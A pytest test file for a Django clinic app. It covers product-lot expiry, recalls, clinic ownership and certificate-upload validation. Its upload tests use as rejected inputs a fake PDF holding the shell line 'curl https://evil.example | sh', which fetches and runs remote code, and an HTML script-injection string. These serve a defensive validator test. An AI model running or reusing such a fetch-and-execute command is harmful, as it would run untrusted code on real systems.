"""Lots: which are usable on a date, recall bookkeeping, and the model layer refusing expired or recalled lots."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from patients.models import ExosomeApplication
from protocols.models import ProductLot
from tests.factories import LotFactory, ProductFactory, TreatmentFactory, UserFactory

pytestmark = pytest.mark.django_db
NOW = dt.datetime(2026, 6, 15, 10, tzinfo=dt.UTC)
TODAY = NOW.date()


@pytest.fixture
def product(clinic_a):
    return ProductFactory(clinic=clinic_a)


def test_it_treats_a_lot_as_usable_through_its_expiry_day(product):
    lot = LotFactory(product=product, received_date=dt.date(2026, 1, 1), expiry_date=TODAY)
    assert list(ProductLot.objects.usable_on(TODAY)) == [lot]
    assert list(ProductLot.objects.usable_on(TODAY + dt.timedelta(days=1))) == []
    assert lot.unusable_reason(TODAY + dt.timedelta(days=1)) == f"Lot {lot.lot_number} expired on 2026-06-15."


def test_it_treats_a_lot_as_usable_from_the_day_it_was_received(product):
    lot = LotFactory(product=product, received_date=TODAY, expiry_date=dt.date(2027, 1, 1))
    assert list(ProductLot.objects.usable_on(TODAY)) == [lot]
    assert lot.unusable_reason(TODAY) is None
    yesterday = TODAY - dt.timedelta(days=1)
    assert list(ProductLot.objects.usable_on(yesterday)) == []
    assert lot.unusable_reason(yesterday) == f"Lot {lot.lot_number} was not received until 2026-06-15."


def test_it_never_offers_a_recalled_lot(product):
    LotFactory(product=product, recalled=True, recall_reason="Endotoxin above limit")
    fresh = LotFactory(product=product)
    assert list(ProductLot.objects.usable_on(TODAY)) == [fresh]


def test_it_lists_expired_lots(product):
    old = LotFactory(product=product, received_date=dt.date(2025, 1, 1), expiry_date=dt.date(2026, 1, 1))
    LotFactory(product=product, expiry_date=dt.date(2027, 1, 1))
    assert list(ProductLot.objects.expired_on(TODAY)) == [old]


@time_machine.travel(NOW, tick=False)
def test_it_records_when_a_recall_was_entered(product):
    lot = LotFactory(product=product)
    lot.recalled, lot.recall_reason = True, "Cold chain broken"
    lot.save()
    assert lot.recalled_at == NOW
    lot.save()
    assert ProductLot.objects.get(pk=lot.pk).recalled_at == NOW


@time_machine.travel(NOW, tick=False)
def test_a_recall_refuses_applications_from_the_time_it_was_entered(product):
    lot = LotFactory(product=product, recalled=True, recall_reason="Endotoxin above limit")
    before, after = NOW - dt.timedelta(minutes=1), NOW + dt.timedelta(minutes=1)
    assert lot.unusable_reason(TODAY, applied_at=before) is None
    assert lot.unusable_reason(TODAY, applied_at=after) == f"Lot {lot.lot_number} has been recalled (since 2026-06-15)."
    # Not knowing when it was applied, a recalled lot is refused.
    assert lot.unusable_reason(TODAY) == f"Lot {lot.lot_number} has been recalled (since 2026-06-15)."
    # Expiry still counts for an application before the recall.
    assert lot.unusable_reason(lot.expiry_date + dt.timedelta(days=1), applied_at=before).startswith(
        f"Lot {lot.lot_number} expired on"
    )


def test_a_lifted_recall_forgets_its_time_so_a_later_recall_gets_its_own(product):
    with time_machine.travel(NOW, tick=False):
        lot = LotFactory(product=product, recalled=True, recall_reason="Suspected contamination")
    lot.recalled = False
    lot.save()
    assert lot.recalled_at is None
    assert lot.history.filter(recalled_at=NOW).exists()  # the first recall's time stays in the history
    later = NOW + dt.timedelta(days=10)
    with time_machine.travel(later, tick=False):
        lot.recalled = True
        lot.save()
    assert ProductLot.objects.get(pk=lot.pk).recalled_at == later


def test_it_requires_a_reason_for_a_recall(product):
    lot = LotFactory.build(product=product, clinic=product.clinic, recalled=True)
    with pytest.raises(ValidationError) as raised:
        lot.full_clean()
    assert raised.value.message_dict["recall_reason"] == ["Say why the lot was recalled."]


def test_it_refuses_a_lot_of_another_clinics_product(product, clinic_b):
    lot = LotFactory.build(product=product, clinic=clinic_b)
    with pytest.raises(ValidationError) as raised:
        lot.full_clean()
    assert raised.value.message_dict["product"] == ["This product belongs to another clinic."]


def test_it_allows_a_lot_of_a_shared_catalogue_product(clinic_b):
    LotFactory.build(product=ProductFactory(clinic=None), clinic=clinic_b).full_clean()


@pytest.mark.parametrize(
    ("lot_kwargs", "message"),
    [
        ({"expiry_date": dt.date(2026, 6, 1), "received_date": dt.date(2026, 1, 1)}, "expired on 2026-06-01"),
        ({"recalled": True, "recall_reason": "Sterility", "recalled_at": NOW - dt.timedelta(days=1)},
         "has been recalled"),
        ({"received_date": dt.date(2026, 6, 16), "expiry_date": dt.date(2027, 1, 1)}, "not received until 2026-06-16"),
    ],
)
def test_it_refuses_to_record_an_application_of_an_unusable_lot(clinic_a, product, lot_kwargs, message):
    lot = LotFactory(product=product, **lot_kwargs)
    treatment = TreatmentFactory(screening__patient__clinic=clinic_a, ended_at=NOW, started_at=NOW - dt.timedelta(hours=1))
    with pytest.raises(ValidationError, match=message):
        ExosomeApplication.objects.create(treatment=treatment, lot=lot, volume_ml=Decimal("1.5"),
                                          applied_by=UserFactory())
    assert not lot.applications.exists()


def test_it_answers_which_treatments_used_a_lot(clinic_a, product):
    lot = LotFactory(product=product)
    treatments = [TreatmentFactory(screening__patient__clinic=clinic_a) for _ in range(2)]
    for treatment in treatments:
        ExosomeApplication.objects.create(treatment=treatment, lot=lot, volume_ml=Decimal("1"), applied_by=UserFactory())
    assert {application.treatment for application in lot.applications.all()} == set(treatments)


# --- the certificate of analysis is what its name says ------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF"


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("fake.pdf", b"#!/bin/sh\ncurl https://evil.example | sh\n", "PDF document"),
        ("coa.pdf", b"<html><script>alert(1)</script>", "PDF document"),
        ("coa.pdf", PNG, "PDF document"),
        ("coa.PDF", b"PDF-1.4 but no percent sign", "PDF document"),
        ("coa.png", b"%PDF-1.7", "PNG picture"),
        ("coa.jpg", PNG, "JPEG picture"),
        ("coa.jpeg", b"GIF89a", "JPEG picture"),
    ],
)
def test_it_refuses_a_certificate_whose_content_is_not_what_its_name_says(product, name, content, kind):
    lot = LotFactory.build(product=product, clinic=product.clinic, certificate=SimpleUploadedFile(name, content))
    with pytest.raises(ValidationError) as raised:
        lot.full_clean()
    (message,) = raised.value.message_dict["certificate"]
    assert f"is not a {kind}" in message
    assert "Upload the certificate of analysis as a PDF, PNG or JPEG file." in message


@pytest.mark.parametrize(
    ("name", "content"),
    [("coa.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), ("COA.Pdf", b"%PDF-2.0"), ("coa.png", PNG),
     ("coa.jpg", JPEG), ("coa.jpeg", JPEG)],
)
def test_it_accepts_a_pdf_png_or_jpeg_certificate_and_stores_all_of_it(product, settings, tmp_path, name, content):
    settings.MEDIA_ROOT = tmp_path
    lot = LotFactory.build(product=product, clinic=product.clinic, certificate=SimpleUploadedFile(name, content))
    lot.full_clean()
    lot.save()
    with ProductLot.objects.get(pk=lot.pk).certificate.open("rb") as stored:
        assert stored.read() == content  # checking the first bytes did not cost the file its start
